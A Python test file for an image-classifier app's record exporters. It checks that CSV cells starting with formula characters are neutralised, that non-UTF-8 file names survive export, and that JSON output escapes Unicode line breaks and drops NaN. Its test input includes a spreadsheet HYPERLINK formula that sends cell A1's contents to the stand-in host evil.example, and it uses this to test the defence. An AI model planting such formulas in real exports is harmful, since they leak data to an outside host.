"""The record writers make untrusted text safe: no spreadsheet formulas, valid UTF-8, no stray line breaks."""

import csv
import json
import math
import os

import pytest

from resnext_gui.core import records as R

BAD_NAME = os.fsdecode(b"/photos/caf\xe9 \xff\xfe.png")  # Latin-1 bytes: not UTF-8


def _record(**kw):
    base = {"path": "cat.png", "ok": True, "top": [{"rank": 1, "index": 3, "label": "tabby", "prob": 0.5}],
            "device": "cpu", "ms": 1.5}
    return {**base, **kw}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_be_formulas_are_neutralised(tmp_path, start):
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    recs = [
        _record(path=evil + ".png", top=[{"rank": 1, "index": 0, "label": evil, "prob": 0.9}], note=evil),
        {"path": "x.png", "ok": False, "error": evil + " is not an image"},
    ]
    out = tmp_path / "export.csv"
    R.write_records(out, recs, "csv")
    with open(out, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["path"] == "'" + evil + ".png"
    assert rows[0]["label1"] == "'" + evil and rows[0]["note"] == "'" + evil
    assert rows[1]["error"] == "'" + evil + " is not an image"
    assert rows[0]["prob1"] == "0.9" and rows[0]["ms"] == "1.5"  # numbers stay numbers
    assert R.csv_row(_record(path="-rf.png"), 1)[0] == "'-rf.png"
    assert R.csv_row(_record(path="plain.png"), 1)[0] == "plain.png"


def test_a_quote_of_the_text_before_a_formula_character_is_told_from_the_one_added():
    """A label "'=" was written as it is and read back as "=": its own quote was taken for the one added."""
    cells = {"=x": "'=x", "'=x": "''=x", "''@x": "'''@x", "'tis": "'tis", "'": "'", "plain": "plain"}
    assert {text: R.neutralise(text) for text in cells} == cells
    assert len({R.neutralise(text) for text in cells}) == len(cells)  # no two texts are written alike


def test_names_that_are_not_utf8_are_written_with_their_bytes(tmp_path):
    rec = {"path": BAD_NAME, "ok": False, "error": f"{BAD_NAME} is not an image"}
    line = R.json_line(rec)
    line.encode("utf-8")  # strict: no lone surrogates left
    got = json.loads(line)
    assert got["path"] == "/photos/caf\ufffd \ufffd\ufffd.png" and "\ufffd" in got["error"]
    assert bytes.fromhex(got["path_bytes"]) == b"/photos/caf\xe9 \xff\xfe.png"
    assert "path_bytes" not in json.loads(R.json_line({"path": "Ünïcödé.png", "ok": True}))
    for fmt in ("json", "csv"):  # the window's export must not raise on such a name
        R.write_records(tmp_path / f"out.{fmt}", [rec, _record()], fmt)
        text = (tmp_path / f"out.{fmt}").read_bytes().decode("utf-8")
        assert "\ufffd" in text and b"/photos/caf\xe9 \xff\xfe.png".hex() in text


def test_json_escapes_unicode_line_breaks_and_never_writes_nan(tmp_path):
    rec = _record(path="a\u2028b\u2029c\u0085d.png", top=[{"rank": 1, "index": 0, "label": "x", "prob": math.nan}],
                  ms=math.inf)
    line = R.json_line(rec)
    assert not any(c in line for c in "\u2028\u2029\u0085") and len(line.splitlines()) == 1
    got = json.loads(line)
    assert got["path"] == "a\u2028b\u2029c\u0085d.png"
    assert got["top"][0]["prob"] is None and got["ms"] is None
    R.write_records(tmp_path / "out.json", [rec], "json")
    text = (tmp_path / "out.json").read_text(encoding="utf-8")
    assert "\u2028" not in text and "NaN" not in text and "Infinity" not in text
    assert json.loads(text)[0]["path"] == rec["path"]
